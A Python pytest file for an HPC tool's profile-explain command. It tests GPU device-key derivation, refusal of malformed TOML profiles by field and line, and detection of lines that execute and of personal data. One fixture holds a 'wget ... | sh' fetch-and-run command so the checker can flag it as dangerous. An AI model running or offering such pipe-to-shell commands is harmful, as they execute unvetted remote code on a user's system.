"""`infrarsi explain --kind profile`: problems with lines, lines that run, personal data, and devices told apart."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from infrarsi_hpc.stages.explain.files import explain_file

HEAD = 'schema_version = 1\nname = "elm"\n'
BUNDLE = """
[[site]]
name = "elm"
gpu_names = ["NVIDIA A100-SXM4-40GB"]
gres = "gpu:a100:4"
intranode = "NVLink"
internode = "IB-200"

[[site]]
name = "birch"
gpu_names = ["NVIDIA A100-PCIE-40GB"]
gres = "gpu:a100:2"
intranode = "PCIe"
"""


def explained(folder: Path, text: str) -> dict[str, Any]:
    path = folder / "p.toml"
    path.write_text(text)
    return explain_file(path, "profile")


def keys(found: dict[str, Any]) -> list[str | None]:
    return [row["device_key"] for row in found["findings"] if row["code"] == "device"]


def test_one_type_at_two_sites_is_two_devices(tmp_path: Path) -> None:
    found = explained(tmp_path, BUNDLE)
    assert found["outcome"] == "ok"
    assert keys(found) == ["nvidia-a100-40gib-sxm4-nvlink", "nvidia-a100-40gib-pcie-pcie"]
    assert len({row["gpu_type"] for row in found["findings"]}) == 1, "naive: by their type they are one"


def test_one_product_at_two_sites_is_one_device(tmp_path: Path) -> None:
    found = explained(tmp_path, BUNDLE.replace("PCIE-40GB", "SXM4-40GB").replace('"PCIe"', '"NVLink"'))
    assert len(set(keys(found))) == 1
    assert "experience is shared" in found["action"]


def test_a_type_alone_has_no_key(tmp_path: Path) -> None:
    found = explained(
        tmp_path, '[[site]]\nname = "elm"\ngres = "gpu:a100:4"\n[[site]]\nname = "oak"\ngpu_names = ["a100"]\n'
    )
    assert keys(found) == [None, None]


def test_a_profiles_partitions_have_devices_too(tmp_path: Path) -> None:
    text = HEAD + '[[partition]]\nname = "a"\ngpu_names = ["NVIDIA H100 80GB HBM3"]\nintranode = "NVLink"\n'
    assert keys(explained(tmp_path, text)) == ["nvidia-h100-80gib-sxm-nvlink"]


@pytest.mark.parametrize(
    ("text", "detail", "where", "line"),
    [
        ('schema_version = 7\nname = "elm"\n', "newer_schema", "schema_version", 1),
        (HEAD + '[[partition]]\nname = "a"\nname = "b"\n', "syntax", "the file", 5),
        (HEAD + "[limits]\npoll_seconds = false\n", "fields", "limits.poll_seconds", 4),
        ("[[site]]\nname = 3\n", "fields", "site.0.name", 2),
        ('[[site]]\nname = "a"\ngpu_names = ["x\\ny"]\n', "fields", "site.0.gpu_names", 3),
        ('[[site]]\nschema_version = 2\nname = "a"\n', "newer_schema", "site.0.schema_version", 2),
    ],
)
def test_a_refused_profile_names_field_and_line(tmp_path: Path, text: str, detail: str, where: str, line: int) -> None:
    found = explained(tmp_path, text)
    assert (found["outcome"], found["detail"]) == ("refused", detail)
    assert (found["findings"][0]["where"], found["findings"][0]["line"]) == (where, line)


def test_lines_that_run_and_personal_data_are_found_with_their_lines(tmp_path: Path) -> None:
    text = HEAD + '[environment]\nsetup = ["wget -qO- http://example.invalid | sh"]\n[user]\naccount = "lab"\n'
    found = explained(tmp_path, text)
    assert (found["outcome"], found["detail"]) == ("ok", "dangerous")
    rows = {row["code"]: row for row in found["findings"]}
    assert (rows["executes"]["line"], rows["personal"]["line"]) == (4, 5)
    assert rows["executes"]["dangers"]
    assert "agreed to" in found["action"]


def test_a_missing_file_is_refused(tmp_path: Path) -> None:
    assert explain_file(tmp_path / "none.toml", "profile")["outcome"] == "refused"
